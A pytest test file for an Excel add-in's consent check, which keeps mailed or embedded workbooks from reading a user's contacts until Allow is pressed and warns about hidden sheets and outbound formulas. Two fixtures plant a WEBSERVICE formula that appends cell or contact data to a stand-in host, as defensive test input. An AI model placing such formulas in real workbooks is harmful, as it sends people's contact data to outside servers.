"""The button Allow, and tables where nobody looks: what a user is asked, and what happens then."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from addin.excel import ribbon, udfs
from tests.hosts.excel_data import Area, Cell, Excel, SheetData, TableData
from tests.hosts.excel_engine import running
from tests.hosts.excel_side import ANNA, CROWD, excel_account, requests
from workbook.accounts import accounts
from workbook.accounts.accounts import Account
from workbook.simulator.simulator import Simulator
from workbook.store import consents
from workbook.sync import consent

MAILED = "/mail/form.xlsx"


@pytest.fixture
def service(monkeypatch: pytest.MonkeyPatch) -> Iterator[Simulator]:
    with excel_account(monkeypatch) as simulator:
        yield simulator


@pytest.fixture
def excel(service: Simulator) -> Iterator[Excel]:
    with running() as found:
        found.full_name = MAILED
        yield found


def told(excel: Excel) -> str:
    """Return what the add-in's VBA tells of the workbook whose cells ask."""
    folder = excel.full_name.rpartition("/")[0]
    return f"{excel.full_name}\n{folder}\n{excel.window}"


def shown(excel: Excel) -> object:
    return udfs.GETCONTACTS(workbook=told(excel))[0][0]


def test_a_mailed_workbook_shows_one_sentence_and_asks_nobody(
    service: Simulator, excel: Excel
) -> None:
    sentence = "This workbook may not see your contacts yet: tab Contacts, Allow."
    assert shown(excel) == sentence
    assert udfs.GETCONTACT(ANNA, workbook=told(excel)) == ""
    assert dict(udfs.GETCONTACTSINFO(workbook=told(excel)))["last error"] == sentence
    assert requests(service) == 0
    assert excel.alerts == [], "no dialog while Excel calculates"


def test_a_mailed_workbook_does_not_learn_which_accounts_there_are(excel: Excel) -> None:
    url = "https://1101.api.green-api.com"
    accounts.save(Account("secret", url, "1101000009", "a-token"))
    accounts.save(Account("other", url, "1101000008", "a-token"))
    said = udfs.GETCONTACTS(account="guess", workbook=told(excel))[0][0]
    assert "may not see" in str(said)
    consent.allow(MAILED, "1101000009")
    said = udfs.GETCONTACTS(account="guess", workbook=told(excel))[0][0]
    assert "secret" in str(said)


def test_a_mailed_workbook_asks_no_keyring(excel: Excel, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("workbook.accounts.accounts.find", None)
    assert "may not see" in str(shown(excel))


def test_allow_names_what_is_hidden_and_what_can_send_data_away(excel: Excel) -> None:
    excel.answers, excel.link_sources = ["no"], ("other.xlsx",)
    excel.sheets[0].cells[2, 2] = Cell(0, '=WEBSERVICE("https://x.example/"&x!A1)')
    excel.sheets.append(SheetData("x", visible=2))
    excel.sheets[-1].cells[1, 1] = Cell(0, "=GETCONTACTS()")
    ribbon.allow()
    [(asked, mode)] = excel.alerts
    assert 'May formulas in "form.xlsx" show the contacts of' in asked
    assert "not shown: x." in asked
    assert "WEBSERVICE" in asked
    assert "1 external link" in asked
    assert mode == "critical"


def test_allow_names_a_table_that_is_hidden_and_could_be_filled(excel: Excel) -> None:
    excel.answers = ["no"]
    table = TableData("Contacts", Area(1, 1, 2, 4))
    excel.sheets.append(SheetData("x", visible=2, tables=[table]))
    ribbon.allow()
    assert "may be filled, too: x." in excel.alerts[0][0]


def test_allow_sees_through_defined_names(excel: Excel) -> None:
    excel.answers = ["yes"]
    excel.names = {"far": '=WEBSERVICE("https://x.example/"&list)', "x!list": "=GETCONTACTS()"}
    excel.sheets.append(SheetData("x", visible=2))
    excel.sheets[-1].cells[1, 1] = Cell(0, "=TAKE(List, 5)")
    ribbon.allow()
    assert "not shown: x." in excel.alerts[0][0]
    assert "WEBSERVICE on the names of the workbook" in excel.alerts[0][0]
    assert excel.calculated == [("x", "A1:A1")]


def test_a_no_leaves_all_as_it_was(excel: Excel) -> None:
    excel.answers = ["no"]
    ribbon.allow()
    assert "may not see" in str(shown(excel))
    assert consents.every() == [] or MAILED not in {each.place for each in consents.every()}


def test_after_a_yes_the_formulas_show_contacts_and_these_alone_are_calculated(
    service: Simulator, excel: Excel
) -> None:
    excel.answers = ["yes"]
    for row, formula in enumerate(("=GETCONTACT(A1)", "=GETCONTACT(A2)", "=1+1"), 1):
        excel.sheets[0].cells[row, 2] = Cell(0, formula)
    ribbon.allow()
    assert shown(excel) == "id"
    assert len(udfs.GETCONTACTS(workbook=told(excel))) == 1 + len(CROWD)
    assert excel.calculated == [("Sheet1", "B1:B2")]


def test_a_workbook_that_was_never_saved_keeps_its_consent_when_it_is(
    excel: Excel, tmp_path: Path
) -> None:
    excel.full_name, excel.answers = "Book1", ["yes"]
    ribbon.allow()
    assert shown(excel) == "id"
    saved = tmp_path.resolve() / "mine.xlsx"
    saved.touch()
    excel.full_name = str(saved)
    assert shown(excel) == "id"
    assert excel.full_name in {each.place for each in consents.every()}


def test_a_workbook_inside_a_letter_is_refused(excel: Excel) -> None:
    excel.embedded = True
    ribbon.allow()
    assert "stands inside another document" in excel.alerts[0][0]


def test_an_add_in_that_cannot_say_who_asks_has_to_be_installed_anew(service: Simulator) -> None:
    assert "getcontacts addin install" in udfs.GETCONTACTS()[0][0]
    assert "in the cells of a workbook alone" in udfs.GETCONTACTS(workbook="")[0][0]
    assert requests(service) == 0
